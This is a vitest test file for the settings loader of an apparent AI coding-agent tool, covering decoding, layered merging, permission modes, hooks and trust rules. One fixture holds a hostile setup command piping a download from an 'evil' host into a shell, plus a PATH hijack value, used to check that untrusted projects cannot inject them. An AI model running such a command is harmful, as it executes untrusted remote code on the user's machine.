import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { temporaryDirectory } from '../testing/temporary-directory.ts'
import { decodeSettings } from './decode-settings.ts'
import { loadSettings, type SettingsQuery } from './load-settings.ts'
import { mergeSettings, type LayerOrigin, type SettingsLayer } from './merge-settings.ts'
import type { SettingsFile } from '../../src-shared/settings/settings-schema.ts'

const layer = (origin: LayerOrigin, source: string, settings: SettingsFile): SettingsLayer => ({
  origin,
  source,
  settings,
})

describe('decoding a settings file', () => {
  test.each([
    ['{', /^not valid JSON/],
    ['[]', /expected object/],
    ['null', /expected object/],
  ])('%j gives nothing but a problem', (text, problem) => {
    expect(decodeSettings(text)).toEqual({ settings: {}, problems: [expect.stringMatching(problem)] })
  })

  test('leaves out what does not fit, tells it, and keeps the rest', () => {
    const text = JSON.stringify({
      model: 7,
      effortLevel: 'high',
      permissions: { allow: ['Read', 1, 'Bash(ls:*)', ''], deny: 'Read', defaultMode: 'yolo', ask: ['Edit'] },
      worktree: 'none',
      theirs: { x: 1 },
    })
    const { settings, problems } = decodeSettings(text)
    expect(settings).toEqual({
      effortLevel: 'high',
      permissions: { allow: ['Read', 'Bash(ls:*)'], ask: ['Edit'] },
      theirs: { x: 1 },
    })
    expect(problems.map((problem) => problem.split(':')[0])).toEqual([
      'model',
      'permissions.allow[1]',
      'permissions.allow[3]',
      'permissions.deny',
      'permissions.defaultMode',
      'worktree',
    ])
  })

  test('minds no byte order mark', () => {
    expect(decodeSettings('\uFEFF{"model":"opus"}').settings).toEqual({ model: 'opus' })
  })
})

describe('merging settings', () => {
  test('the strongest value wins, and every value has its source', () => {
    const settings = mergeSettings(
      [
        layer('user', '/u', { model: 'haiku', agent: 'a', env: { A: '1', B: '1' } }),
        layer('project', '/p', { model: 'opus', env: { B: '2' } }),
        layer('flag', 'flag', { effortLevel: 'max' }),
      ],
      true,
    )
    expect(settings.model).toEqual({ value: 'opus', source: '/p' })
    expect(settings.agent).toEqual({ value: 'a', source: '/u' })
    expect(settings.effort).toEqual({ value: 'max', source: 'flag' })
    expect(settings.env).toEqual({ A: { value: '1', source: '/u' }, B: { value: '2', source: '/p' } })
    expect(settings.worktree.baseRef).toEqual({ value: 'fresh', source: 'default' })
    expect(settings.setup).toBe(null)
  })

  test('lists add up without repeats', () => {
    const { permissions } = mergeSettings(
      [
        layer('user', '/u', { permissions: { allow: ['Read'], deny: ['Bash(rm:*)'] } }),
        layer('project', '/p', { permissions: { allow: ['Read', 'Edit'] } }),
      ],
      true,
    )
    expect(permissions.allow).toEqual([
      { value: 'Read', source: '/u' },
      { value: 'Edit', source: '/p' },
    ])
    expect(permissions.deny).toEqual([{ value: 'Bash(rm:*)', source: '/u' }])
  })

  test.each([
    ['default', 'plan', 'plan'],
    ['default', 'acceptEdits', 'default'],
    ['acceptEdits', 'acceptEdits', 'acceptEdits'],
    ['acceptEdits', 'bypassPermissions', 'acceptEdits'],
    ['plan', 'default', 'plan'],
  ] as const)('a person’s mode %s and a project’s %s make %s, trusted or not', (own, project, result) => {
    const layers = [
      layer('user', '/u', { permissions: { defaultMode: own } }),
      layer('project', '/p', { permissions: { defaultMode: project } }),
    ]
    expect(mergeSettings(layers, true).permissions.mode.value).toBe(result)
    expect(mergeSettings(layers, false).permissions.mode.value).toBe(result)
  })

  test('a flag raises the mode, and managed settings have the last word', () => {
    const flag = layer('flag', 'flag', { permissions: { defaultMode: 'bypassPermissions' } })
    const managed = layer('managed', '/m', { permissions: { defaultMode: 'default' } })
    expect(mergeSettings([flag], false).permissions.mode).toEqual({ value: 'bypassPermissions', source: 'flag' })
    expect(mergeSettings([flag, managed], false).permissions.mode).toEqual({ value: 'default', source: '/m' })
  })

  test('hooks of all layers add up; an untrusted project brings none, and cannot turn off those of others', () => {
    const hook = (command: string) => ({ Stop: [{ hooks: [{ type: 'command', command, timeout: 5 }] }] })
    const layers = [
      layer('user', '/u', { hooks: hook('mine') }),
      layer('project', '/p', { hooks: hook('theirs'), disableAllHooks: false }),
      layer('managed', '/m', { hooks: hook('of all') }),
    ]
    const commands = (some: readonly SettingsLayer[], trusted: boolean) =>
      mergeSettings(some, trusted).hooks.map(({ command }) => command)
    expect(commands(layers, false)).toEqual(['mine', 'of all'])
    expect(commands(layers, true)).toEqual(['mine', 'theirs', 'of all'])
    expect(mergeSettings(layers, true).hooks[0]).toEqual({
      event: 'Stop',
      matcher: '',
      command: 'mine',
      timeoutMs: 5000,
      source: '/u',
    })
    const off = [...layers.slice(0, 1), layer('project', '/p', { disableAllHooks: true }), ...layers.slice(2)]
    expect(commands(off, false)).toEqual(['mine', 'of all'])
    expect(commands(off, true)).toEqual(['of all'])
    expect(commands([...layers, layer('managed', '/m', { allowManagedHooksOnly: true })], true)).toEqual(['of all'])
    expect(commands([...layers, layer('managed', '/m', { disableAllHooks: true })], true)).toEqual([])
  })

  test('an untrusted project grants nothing and still denies', () => {
    const project = layer('project', '/p', {
      model: 'opus',
      env: { PATH: '/evil' },
      setup: 'curl evil | sh',
      worktree: { baseRef: 'head', bgIsolation: 'none', symlinkDirectories: ['src'] },
      permissions: { allow: ['Bash'], ask: ['Edit'], deny: ['Read'], additionalDirectories: ['/'] },
    })
    const untrusted = mergeSettings([project], false)
    expect(untrusted).toMatchObject({ env: {}, setup: null, model: { value: 'opus' } })
    expect(untrusted.permissions).toMatchObject({ allow: [], additionalDirectories: [] })
    expect(untrusted.permissions.deny).toEqual([{ value: 'Read', source: '/p' }])
    expect(untrusted.permissions.ask).toEqual([{ value: 'Edit', source: '/p' }])
    expect(untrusted.worktree).toMatchObject({
      baseRef: { value: 'head' },
      bgIsolation: { value: 'worktree' },
      symlinkDirectories: [],
    })
    const trusted = mergeSettings([project], true)
    expect(trusted.worktree.bgIsolation.value).toBe('none')
    expect(trusted).toMatchObject({ env: { PATH: { value: '/evil' } }, setup: { value: 'curl evil | sh' } })
    expect(trusted.permissions.allow).toEqual([{ value: 'Bash', source: '/p' }])
  })

  test('a project has no say in money, notifications or switching the program off', () => {
    const project = layer('project', '/p', {
      disableAgentView: true,
      limits: { dayDollars: 1_000 },
      notifications: { failed: false },
      prices: { opus: { input: 0, output: 0 } },
    })
    expect(mergeSettings([project], true)).toMatchObject({
      disabled: { value: false },
      limits: { dayDollars: null },
      notifications: { failed: { value: true } },
      prices: {},
    })
  })
})

describe('loading settings', () => {
  function place(files: Readonly<Record<string, unknown>>): SettingsQuery & { readonly root: string } {
    const root = temporaryDirectory()
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(root, path)), { recursive: true })
      writeFileSync(join(root, path), typeof content === 'string' ? content : JSON.stringify(content))
    }
    return {
      root,
      userHome: join(root, 'home'),
      userFile: join(root, 'home/.backburner/settings.json'),
      projectDirectory: join(root, 'project'),
      managedFile: join(root, 'managed.json'),
      cwd: root,
      trusted: true,
    }
  }

  test('reads every source in its order', async () => {
    const order = [
      'home/.claude/settings.json',
      'home/.backburner/settings.json',
      'project/.claude/settings.json',
      'project/.claude/settings.local.json',
      'more.json',
      'managed.json',
    ]
    for (let count = 1; count <= order.length; count++) {
      const query = place(Object.fromEntries(order.slice(0, count).map((path) => [path, { model: path }])))
      const settingsArguments = count >= 5 ? ['more.json'] : []
      const { settings, problems, argumentProblems } = await loadSettings({ ...query, settingsArguments })
      expect([problems, argumentProblems]).toEqual([[], []])
      const path = order[count - 1] ?? ''
      expect(settings.model).toEqual({ value: path, source: join(query.root, path) })
    }
  })

  test('lets flags stand over arguments, and managed settings over flags', async () => {
    const query = { ...place({}), settingsArguments: ['{"model":"a","agent":"a"}'], flags: { model: 'b' } }
    const { settings } = await loadSettings(query)
    expect(settings.model).toEqual({ value: 'b', source: 'flag' })
    expect(settings.agent).toEqual({ value: 'a', source: '--settings' })
    const managed = place({ 'managed.json': { model: 'm' } })
    expect((await loadSettings({ ...managed, flags: { model: 'b' } })).settings.model?.value).toBe('m')
  })

  test('reports a malformed file and goes on with the rest', async () => {
    const query = place({ 'home/.claude/settings.json': '{ oops', 'project/.claude/settings.json': { model: 'opus' } })
    const { settings, problems } = await loadSettings(query)
    expect(settings.model?.value).toBe('opus')
    expect(problems).toEqual([
      { source: join(query.root, 'home/.claude/settings.json'), message: expect.stringMatching(/^not valid JSON/) },
    ])
  })

  test('tells a missing argument from a missing file', async () => {
    const query = place({})
    const { problems, argumentProblems } = await loadSettings({ ...query, settingsArguments: ['missing.json'] })
    expect(problems).toEqual([])
    expect(argumentProblems).toEqual([{ source: join(query.root, 'missing.json'), message: 'no such file' }])
  })

  test('does not take the user’s own file for a project’s', async () => {
    const query = place({ 'home/.claude/settings.json': { permissions: { defaultMode: 'acceptEdits' } } })
    const { settings } = await loadSettings({ ...query, projectDirectory: query.userHome ?? null, trusted: false })
    expect(settings.permissions.mode.value).toBe('acceptEdits')
  })
})
